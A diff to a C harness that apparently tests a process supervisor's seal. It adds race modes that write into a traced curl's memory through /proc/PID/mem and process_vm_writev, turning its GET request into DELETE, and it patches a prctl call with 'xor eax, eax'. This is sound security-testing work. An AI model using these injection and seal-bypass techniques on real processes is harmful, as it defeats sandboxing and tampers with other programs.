@@ -9,11 +9,14 @@
  *           through /proc/PID/mem to `xor eax, eax` (2 bytes, leaves rax 0, as the prctl would):
  *           a seal that takes that for the prctl leaves the tool dumpable. Then process_vm_writev
  *           its method GET -> DELETE (refused by the kernel if the seal really ran).
- *   argv    once the tracer resumes the tool for the seal's first step, process_vm_writev its
- *           method GET -> DELETE: a compare made before the seal has already passed it.
- *   memfd   open /proc/PID/mem at the exec stop (before any seal), wait until the tool is let go,
+ *   argv    from the exec's commit on (its new name in /proc/PID/stat), process_vm_writev its
+ *           method GET -> DELETE until a write lands: one whose access was checked before the
+ *           seal and that copies after the compare gets through.
+ *   memfd   open /proc/PID/mem from the commit on (before the seal), wait until the tool is let go,
  *           and write its method through that fd: the kernel checks a mem file's access at open,
- *           not at each write, so a seal does not take it back (see KNOWN-GAPS.md).
+ *           not at each write, so a seal does not take it back.
+ * Both are closed by the supervisor holding the rest of the tree still from before the exec's
+ * answer until after the seal (TreeFreeze): this process does not run in that window at all.
  *
  * The window is widened legitimately, as any tree process may: a spinner pinned to CPU 0 and the
  * tool (the attacker's own child) pinned there at nice 19, so each single step waits for the CPU
@@ -138,13 +141,17 @@ static int try_once(const char *mode, const char *curl, const char *url, long go
     /* 1. The exec stop: committed (curl's name), stopped by its tracer; given up 20 ms after the
      * commit (the tracer was quicker than this watch, and curl runs). */
     double committed = 0;
+    int eager = strcmp(mode, "gadget") != 0;
     while (stat_of(sfd, &state, &flt0, &arg_start, &is_curl) && !(is_curl && state == 't') && now() < deadline) {
         if (is_curl && committed == 0)
             committed = now();
+        /* argv and memfd act from the commit on, as soon as the new image is there to reach. */
+        if (eager && is_curl && arg_start != 0)
+            break;
         if (committed != 0 && now() - committed > 0.02)
             break;
     }
-    if (!(is_curl && state == 't' && arg_start != 0)) {
+    if (!(is_curl && arg_start != 0 && (eager || state == 't'))) {
         (*missed)++; /* not seen stopped (the tracer was quicker than this watch): nothing tried */
     } else {
         if (strcmp(mode, "gadget") == 0 || strcmp(mode, "memfd") == 0) {
@@ -167,7 +174,13 @@ static int try_once(const char *mode, const char *curl, const char *url, long go
         while (stat_of(sfd, &state, &flt, &a, &is_curl) && state == 't' && now() < deadline) {
         }
         if (strcmp(mode, "argv") == 0) {
-            write_method(c, arg_start + method_off, wrote);
+            /* Until a write lands, the tool is let go, or it is gone. */
+            while (stat_of(sfd, &state, &flt, &a, &is_curl) && flt == flt0 && now() < deadline) {
+                int before = *wrote;
+                write_method(c, arg_start + method_off, wrote);
+                if (*wrote != before)
+                    break;
+            }
         } else {
             if (gadget != 0)
                 pwrite(mem, "\x31\xc0", 2, gadget); /* xor eax, eax */
